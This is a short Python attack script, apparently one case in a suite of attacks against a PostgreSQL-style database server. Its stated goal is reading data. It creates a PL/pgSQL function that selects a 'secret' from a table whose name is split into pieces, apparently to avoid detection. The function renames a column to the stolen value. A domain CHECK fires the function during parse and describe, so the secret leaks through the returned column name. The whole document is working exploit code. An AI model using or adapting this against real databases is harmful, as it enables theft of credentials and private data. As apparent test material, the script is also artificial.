"""Describes a statement: while it was analysed, a constant's check has named a column as a row."""

from attacks.frames import SYNC, ask, describe, parse, query
from attacks.talking import Server

WANTS = "read"

_NAMES_IT = b"""
CREATE FUNCTION names_it(text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
  one text;
BEGIN
  EXECUTE 'SELECT secret FROM vlt' || '_account WHERE id = 1' INTO one;
  EXECUTE format('ALTER TABLE named_by_it RENAME COLUMN a TO %I', one);
  RETURN true;
END $$"""


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(_NAMES_IT))
        ask(client, query(b"CREATE DOMAIN naming AS text CHECK (names_it(VALUE))"))
        ask(client, query(b"CREATE TABLE named_by_it (a int)"))
        statement = parse(b"SELECT t.* FROM (SELECT '{1}'::naming[]) s, named_by_it t")
        return ask(client, statement, describe(b"S"), SYNC)
